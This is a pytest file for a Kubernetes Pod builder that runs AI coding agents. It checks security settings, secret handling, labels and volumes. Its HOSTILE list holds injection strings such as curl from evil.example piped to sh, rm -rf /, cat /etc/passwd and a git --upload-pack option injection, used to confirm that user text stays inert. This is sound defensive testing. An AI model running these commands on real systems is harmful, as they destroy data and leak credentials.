"""The Pod builder: every field the Pod promises, restricted security, inert user text."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gastown.api.models import LABEL_BEAD, LABEL_POLECAT, LABEL_RIG
from gastown.executors.base import UserError
from gastown.executors.kubernetes.pod import (
    AGENT_CONTAINER,
    ANNOTATION_TASK,
    CLONE_CONTAINER,
    POD_LABEL_SELECTOR,
    build_pod,
    label_value,
    pod_name,
)
from gastown.settings import PodDefaults
from tests.support.pod_security import restricted_violations
from tests.unit.executors.kubernetes.polecats import UID, polecat

DEFAULTS = PodDefaults()
LABEL_VALUE = re.compile(r"^(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?$")
HOSTILE = [
    "$(touch /tmp/pwned)",
    "`rm -rf /`; echo ok",
    "'; curl evil.example | sh; '",
    '" && cat /etc/passwd && "',
    "--upload-pack=touch /tmp/pwned",
    "line one\nline two\r\n\x1b[31mred\x1b[0m",
    "{{ .Values }} ${HOME} %s %(x)s",
]


def containers(pod: dict[str, Any]) -> dict[str, dict[str, Any]]:
    spec = pod["spec"]
    return {c["name"]: c for c in [*spec["initContainers"], *spec["containers"]]}


def env_of(container: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {e["name"]: e for e in container["env"]}


def test_name_namespace_and_owner() -> None:
    pod = build_pod(polecat(), DEFAULTS)
    assert pod["apiVersion"] == "v1" and pod["kind"] == "Pod"
    assert pod["metadata"]["name"] == "polecat-fix-login"
    assert pod["metadata"]["namespace"] == "team-a"
    assert pod["metadata"]["ownerReferences"] == [
        {
            "apiVersion": "gastown.gastown.io/v1alpha1",
            "kind": "Polecat",
            "name": "fix-login",
            "uid": UID,
            "controller": True,
            "blockOwnerDeletion": True,
        }
    ]


def test_labels() -> None:
    labels = build_pod(polecat(), DEFAULTS)["metadata"]["labels"]
    assert labels == {
        "app.kubernetes.io/name": "gastown-polecat",
        "app.kubernetes.io/instance": "fix-login",
        "app.kubernetes.io/component": "agent",
        "app.kubernetes.io/managed-by": "gastown-operator",
        LABEL_POLECAT: "fix-login",
        LABEL_RIG: "webshop",
        LABEL_BEAD: "gt-abc12",
    }
    for part in POD_LABEL_SELECTOR.split(","):
        key, value = part.split("=")
        assert labels[key] == value


def test_long_names_still_give_valid_names_and_labels() -> None:
    long_name = "a" * 60 + "." + "b" * 150
    pod = build_pod(polecat(name=long_name), DEFAULTS)
    assert pod["metadata"]["name"] == "polecat-" + long_name  # 219 characters fit in a Pod name
    for value in pod["metadata"]["labels"].values():
        assert len(value) <= 63 and LABEL_VALUE.match(value), value
    assert pod["metadata"]["labels"][LABEL_POLECAT] != label_value("a" * 60 + "." + "c" * 150)
    longest = polecat(name="x" * 253)
    assert len(pod_name(longest)) <= 253
    assert pod_name(longest) != pod_name(polecat(name="x" * 252 + "y"))


@given(st.text(max_size=200))
def test_label_value_is_always_valid(value: str) -> None:
    out = label_value(value)
    assert len(out) <= 63 and LABEL_VALUE.fullmatch(out)
    # fullmatch: "$" alone would also accept a value with a trailing newline ("\n").
    if LABEL_VALUE.fullmatch(value) and len(value) <= 63:
        assert out == value  # valid values are kept as they are


def test_label_value_distinguishes_sanitized_inputs() -> None:
    assert label_value("gt/abc") != label_value("gt-abc")
    assert label_value("gt-abc") == "gt-abc"


def test_lifecycle_fields() -> None:
    spec = build_pod(polecat(activeDeadlineSeconds=900), DEFAULTS)["spec"]
    assert spec["restartPolicy"] == "Never"
    assert spec["activeDeadlineSeconds"] == 900
    assert spec["terminationGracePeriodSeconds"] >= 30
    assert build_pod(polecat(), DEFAULTS)["spec"]["activeDeadlineSeconds"] == 3600


def test_no_service_account_token_unless_asked() -> None:
    spec = build_pod(polecat(), DEFAULTS)["spec"]
    assert spec["automountServiceAccountToken"] is False
    assert "serviceAccountName" not in spec
    spec = build_pod(polecat(serviceAccountName="agent-sa"), DEFAULTS)["spec"]
    assert spec["serviceAccountName"] == "agent-sa"
    assert spec["automountServiceAccountToken"] is True


@pytest.mark.parametrize(
    "overrides",
    [{}, {"serviceAccountName": "sa"}, {"gitSecretRef": None, "knownHostsConfigMapRef": None}],
)
def test_passes_pod_security_restricted(overrides: dict[str, Any]) -> None:
    spec = build_pod(polecat(**overrides), DEFAULTS)["spec"]
    assert restricted_violations(spec) == []
    sc = spec["securityContext"]
    assert sc["runAsNonRoot"] is True
    assert isinstance(sc["runAsUser"], int) and sc["runAsUser"] > 0
    assert sc["seccompProfile"] == {"type": "RuntimeDefault"}
    for c in containers(build_pod(polecat(**overrides), DEFAULTS)).values():
        csc = c["securityContext"]
        assert csc["allowPrivilegeEscalation"] is False
        assert csc["capabilities"] == {"drop": ["ALL"]}
        assert csc["readOnlyRootFilesystem"] is True
        assert csc["runAsNonRoot"] is True


def test_run_as_user_follows_the_defaults() -> None:
    spec = build_pod(polecat(), PodDefaults(run_as_user=4242))["spec"]
    assert spec["securityContext"]["runAsUser"] == 4242
    assert spec["securityContext"]["fsGroup"] == 4242  # makes the 0400 key readable to the runner


def test_writable_places_are_emptydirs() -> None:
    pod = build_pod(polecat(), DEFAULTS)
    volumes = {v["name"]: v for v in pod["spec"]["volumes"]}
    for name in ("workspace", "home", "tmp"):
        assert volumes[name] == {"name": name, "emptyDir": {}}
    for c in containers(pod).values():
        mounts = {m["mountPath"]: m for m in c["volumeMounts"]}
        assert mounts["/workspace"]["name"] == "workspace"
        assert mounts["/home/polecat"]["name"] == "home"
        assert mounts["/tmp"]["name"] == "tmp"
        for m in c["volumeMounts"]:
            writable = not m.get("readOnly", False)
            assert not writable or volumes[m["name"]].get("emptyDir") is not None, m
        assert env_of(c)["HOME"]["value"] == "/home/polecat"


def test_clone_init_container() -> None:
    pod = build_pod(polecat(gitBranch="release/1.2", workBranch="polecat/login"), DEFAULTS)
    init = pod["spec"]["initContainers"]
    assert [c["name"] for c in init] == [CLONE_CONTAINER]
    clone = init[0]
    assert clone["args"] == ["gastown-agent", "clone"]
    assert "command" not in clone  # the image's tini entrypoint stays PID 1
    assert "restartPolicy" not in clone  # not a sidecar
    volumes = {v["name"]: v for v in pod["spec"]["volumes"]}
    assert volumes["git-ssh"]["secret"] == {
        "secretName": "git-key",
        "items": [{"key": "ssh-privatekey", "path": "ssh-privatekey"}],
        "defaultMode": 0o400,
    }
    assert volumes["known-hosts"]["configMap"] == {
        "name": "git-known-hosts",
        "items": [{"key": "known_hosts", "path": "known_hosts"}],
    }
    mounts = {m["name"]: m for m in clone["volumeMounts"]}
    assert mounts["git-ssh"]["readOnly"] is True and mounts["known-hosts"]["readOnly"] is True
    env = {k: v["value"] for k, v in env_of(clone).items()}
    assert env["GASTOWN_GIT_REPOSITORY"] == "git@github.com:acme/app.git"
    assert env["GASTOWN_GIT_BRANCH"] == "release/1.2"
    assert env["GASTOWN_WORK_BRANCH"] == "polecat/login"
    assert env["GASTOWN_SSH_KEY_SOURCE"] == f"{mounts['git-ssh']['mountPath']}/ssh-privatekey"
    assert env["GASTOWN_KNOWN_HOSTS_SOURCE"] == f"{mounts['known-hosts']['mountPath']}/known_hosts"
    assert env["GASTOWN_GIT_SECRET"] == "git-key"
    assert env["GASTOWN_KNOWN_HOSTS_CONFIGMAP"] == "git-known-hosts"
    assert "GASTOWN_TASK_FILE" not in env  # the clone step does not get the task
    assert "task" not in mounts


def test_key_is_mounted_only_where_it_is_installed() -> None:
    pod = build_pod(polecat(), DEFAULTS)
    agent = containers(pod)[AGENT_CONTAINER]
    assert {m["name"] for m in agent["volumeMounts"]} == {"workspace", "home", "tmp", "task"}


def test_without_git_credentials_there_are_no_credential_volumes() -> None:
    pod = build_pod(
        polecat(
            gitRepository="https://github.com/acme/app.git", gitSecretRef=None, knownHostsConfigMapRef=None
        ),
        DEFAULTS,
    )
    assert {v["name"] for v in pod["spec"]["volumes"]} == {"workspace", "home", "tmp", "task"}
    env = env_of(containers(pod)[CLONE_CONTAINER])
    assert "GASTOWN_SSH_KEY_SOURCE" not in env and "GASTOWN_KNOWN_HOSTS_SOURCE" not in env


def test_agent_container() -> None:
    pod = build_pod(polecat(), DEFAULTS)
    assert [c["name"] for c in pod["spec"]["containers"]] == [AGENT_CONTAINER]  # no sidecar
    agent = pod["spec"]["containers"][0]
    assert agent["image"] == DEFAULTS.agent_image
    assert agent["args"] == ["gastown-agent", "run"]
    assert "command" not in agent
    assert agent["workingDir"] == "/workspace/repo"
    env = env_of(agent)
    assert env["ANTHROPIC_API_KEY"] == {
        "name": "ANTHROPIC_API_KEY",
        "valueFrom": {"secretKeyRef": {"name": "agent-api-key", "key": "api-key"}},
    }
    assert pod["metadata"]["annotations"][ANNOTATION_TASK] == "Fix the login redirect loop."
    assert env["GASTOWN_TASK_FILE"]["value"] == "/etc/gastown/task/task.md"
    volumes = {v["name"]: v for v in pod["spec"]["volumes"]}
    assert volumes["task"]["downwardAPI"] == {
        "items": [
            {"path": "task.md", "fieldRef": {"fieldPath": f"metadata.annotations['{ANNOTATION_TASK}']"}}
        ]
    }
    mounts = {m["name"]: m for m in agent["volumeMounts"]}
    assert mounts["task"] == {"name": "task", "mountPath": "/etc/gastown/task", "readOnly": True}
    assert env["GASTOWN_WORK_BRANCH"]["value"] == "polecat/fix-login"
    assert env["GASTOWN_BEAD"]["value"] == "gt-abc12"
    assert env["GASTOWN_POLECAT"]["value"] == "fix-login"


def test_image_from_spec_is_used_for_both_steps() -> None:
    pod = build_pod(polecat(image="registry.example/agent:2"), DEFAULTS)
    assert {c["image"] for c in containers(pod).values()} == {"registry.example/agent:2"}
    pod = build_pod(polecat(), PodDefaults(clone_image="registry.example/clone:1"))
    assert containers(pod)[CLONE_CONTAINER]["image"] == "registry.example/clone:1"
    assert containers(pod)[AGENT_CONTAINER]["image"] == DEFAULTS.agent_image
    for c in containers(pod).values():
        assert c["imagePullPolicy"] == DEFAULTS.image_pull_policy


def test_unknown_agent_gets_the_generic_key_variable() -> None:
    pod = build_pod(polecat(spec={"agent": "aider"}), DEFAULTS)
    env = env_of(containers(pod)[AGENT_CONTAINER])
    assert "valueFrom" in env["GASTOWN_AGENT_API_KEY"] and "ANTHROPIC_API_KEY" not in env
    assert env["GASTOWN_AGENT"]["value"] == "aider"


def test_secrets_are_never_plain_values_or_args() -> None:
    pod = build_pod(polecat(), DEFAULTS)
    credential = re.compile(r"(API_KEY|TOKEN|PASSWORD)$")
    for c in containers(pod).values():
        for e in c["env"]:
            if credential.search(e["name"]):
                assert "value" not in e and "secretKeyRef" in e["valueFrom"], e
            elif "valueFrom" in e:
                pytest.fail(f"unexpected secret-sourced env {e}")
        assert c["args"] in (["gastown-agent", "clone"], ["gastown-agent", "run"])
    # No Secret *content* can appear: the builder never sees any. Its names may.
    text = json.dumps(pod)
    assert "BEGIN OPENSSH" not in text


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_stays_inert_data(hostile: str) -> None:
    """The task is only an annotation (a file in the Pod), the URL only an env value; never args."""
    plain = build_pod(polecat(task="benign"), DEFAULTS)
    pod = build_pod(polecat(task=hostile, gitRepository=hostile), DEFAULTS)
    for name, c in containers(pod).items():
        assert c["args"] == containers(plain)[name]["args"]
        assert "command" not in c
        assert c.get("workingDir") == containers(plain)[name].get("workingDir")
    assert pod["metadata"]["annotations"][ANNOTATION_TASK] == hostile
    assert env_of(containers(pod)[CLONE_CONTAINER])["GASTOWN_GIT_REPOSITORY"]["value"] == hostile
    for c in containers(pod).values():
        for e in c["env"]:
            assert e.get("value") != hostile or e["name"] == "GASTOWN_GIT_REPOSITORY", e


def test_termination_message() -> None:
    for c in containers(build_pod(polecat(), DEFAULTS)).values():
        assert c["terminationMessagePath"] == "/dev/termination-log"
        assert c["terminationMessagePolicy"] == "FallbackToLogsOnError"


def test_resources_default_and_from_spec() -> None:
    pod = build_pod(polecat(), DEFAULTS)
    for c in containers(pod).values():
        assert c["resources"] == {
            "requests": {"cpu": DEFAULTS.cpu_request, "memory": DEFAULTS.memory_request},
            "limits": {"cpu": DEFAULTS.cpu_limit, "memory": DEFAULTS.memory_limit},
        }
    wanted = {"requests": {"cpu": "100m"}, "limits": {"memory": "8Gi"}}
    pod = build_pod(polecat(resources=wanted), DEFAULTS)
    for c in containers(pod).values():
        assert c["resources"] == wanted


def test_scheduling_passthrough() -> None:
    spec = build_pod(
        polecat(
            nodeSelector={"pool": "agents"},
            tolerations=[{"key": "agents", "operator": "Exists", "effect": "NoSchedule"}],
            runtimeClassName="gvisor",
        ),
        DEFAULTS,
    )["spec"]
    assert spec["nodeSelector"] == {"pool": "agents"}
    assert spec["tolerations"] == [{"key": "agents", "operator": "Exists", "effect": "NoSchedule"}]
    assert spec["runtimeClassName"] == "gvisor"
    bare = build_pod(polecat(), DEFAULTS)["spec"]
    assert not {"nodeSelector", "tolerations", "runtimeClassName"} & bare.keys()


def test_pure_and_json_ready() -> None:
    one, two = build_pod(polecat(), DEFAULTS), build_pod(polecat(), DEFAULTS)
    assert one == two
    assert json.loads(json.dumps(one)) == one


def test_missing_kubernetes_spec_is_a_user_error() -> None:
    p = polecat()
    p.spec.kubernetes = None
    with pytest.raises(UserError) as err:
        build_pod(p, DEFAULTS)
    assert "spec.kubernetes" in err.value.message


def test_missing_uid_is_refused() -> None:
    p = polecat()
    p.metadata.uid = ""
    with pytest.raises(ValueError, match="uid"):
        build_pod(p, DEFAULTS)
